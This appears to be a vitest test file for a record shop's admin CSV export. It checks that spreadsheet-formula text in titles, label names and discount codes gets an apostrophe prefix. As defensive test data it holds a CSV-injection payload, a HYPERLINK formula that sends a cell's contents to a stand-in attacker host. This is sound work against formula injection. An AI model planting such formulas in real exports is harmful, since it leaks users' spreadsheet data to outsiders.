import { parse as parseCsv } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { signedInAdmin } from "../../../../tests/setup/admin-routes";
import { pageGet, routeArgs } from "../../../../tests/setup/route-context";
import { useShopServices } from "../../../../tests/setup/shop-fixtures";
import type { AnalysisData } from "~/domain/admin/analysis/figures";
import type { Services } from "../../../../server/services";
import { loader } from "./business-analysis-csv";

const shop = useShopServices();

const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
/** The figures as the service would give them, with text a spreadsheet would run as formulas. */
const hostile: Partial<AnalysisData> = {
  topSellers: [{ recordId: 12, title, artist: "-M-", units: 3, revenuePence: 4500 }],
  label: [{ name: "@Home Records", units: 2, revenuePence: 3000 }],
  discounts: [{ code: "+FREE", percentOff: 10, orders: 1, discountPence: -250, revenuePence: 2250 }],
};

async function figureCsv(figure: string, cookie: string): Promise<string[][]> {
  const services = {
    ...shop.s,
    businessAnalysis: { ...shop.s.businessAnalysis, all: () => hostile as ReturnType<Services["businessAnalysis"]["all"]> },
  };
  const args = routeArgs({ db: shop.t.db, services }, pageGet(`/admin/business-analysis.csv?figure=${figure}`, cookie));
  const response = await loader(args as never);
  return parseCsv(await response.text(), { bom: true }) as string[][];
}

describe("a business analysis figure as CSV", () => {
  it("writes every title, name and code a spreadsheet would run as a formula with an apostrophe in front", async () => {
    const { cookie } = await signedInAdmin(shop);
    expect((await figureCsv("top-sellers", cookie))[1]).toEqual(["12", `'${title}`, "'-M-", "3", "45.00"]);
    expect((await figureCsv("label", cookie))[1]).toEqual(["'@Home Records", "2", "30.00"]);
    // The shop's own figures are numbers, written as they are, a negative one included.
    expect((await figureCsv("discounts", cookie))[1]).toEqual(["'+FREE", "10", "1", "-2.50", "22.50"]);
  });
});
